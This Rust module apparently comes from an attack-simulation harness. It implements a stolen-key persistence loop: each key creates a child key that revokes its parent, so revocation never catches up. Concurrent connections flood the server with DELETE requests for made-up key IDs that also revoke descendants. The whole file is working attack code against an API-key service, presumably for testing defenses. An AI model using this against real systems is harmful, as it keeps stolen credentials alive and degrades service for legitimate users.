//! A stolen key creates a key, which revokes it and creates the next, as long as the server allows it.
//! Meanwhile, other connections of the attacker revoke keys that do not exist with their descendants.

use std::convert::Infallible;
use std::io;
use std::sync::Arc;

use serde_json::Value;
use tokio::runtime::Handle;

use super::{CONNECTIONS, ONE_ADDRESS, RECONNECT, made_up_id};
use crate::target::{StolenKey, Target};
use crate::wire::Wire;

pub(super) fn begin(runtime: &Handle, target: &Arc<Target>) {
    let lengthened = Arc::clone(target);
    runtime.spawn(async move {
        loop {
            let Err(error) = lengthen(&lengthened).await;
            lengthened.tally.broke(error);
            tokio::time::sleep(RECONNECT).await;
        }
    });
    for connection in 0..CONNECTIONS {
        let target = Arc::clone(target);
        runtime.spawn(async move {
            loop {
                let Err(error) = walk(&target, connection).await;
                target.tally.broke(error);
                tokio::time::sleep(RECONNECT).await;
            }
        });
    }
}

async fn lengthen(target: &Target) -> io::Result<Infallible> {
    let mut wire = Wire::open(target.server, ONE_ADDRESS).await?;
    loop {
        let parent = target.youngest();
        let create = target.api(&parent.token, "POST", "/api-keys", "{\"name\":\"link\"}");
        let created = wire.ask(&create).await?;
        target.tally.answered(created.status);
        let Some(child) = key_in(&created.body) else {
            // Too many at once, or too deep: the attacker tries again.
            continue;
        };
        let path = format!("/api-keys/{}", parent.id);
        let revoked = wire.ask(&target.api(&child.token, "DELETE", &path, "")).await?;
        target.tally.answered(revoked.status);
        *target
            .youngest
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner()) = child;
    }
}

async fn walk(target: &Target, connection: usize) -> io::Result<Infallible> {
    let mut wire = Wire::open(target.server, ONE_ADDRESS).await?;
    let mut number = connection;
    loop {
        number += CONNECTIONS;
        let path = format!("/api-keys/{}?descendants=revoke", made_up_id(number));
        let request = target.api(&target.youngest().token, "DELETE", &path, "");
        target.tally.answered(wire.ask(&request).await?.status);
    }
}

fn key_in(created: &str) -> Option<StolenKey> {
    let created: Value = serde_json::from_str(created).ok()?;
    Some(StolenKey {
        id: created["id"].as_str()?.to_owned(),
        token: created["key"].as_str()?.to_owned(),
    })
}
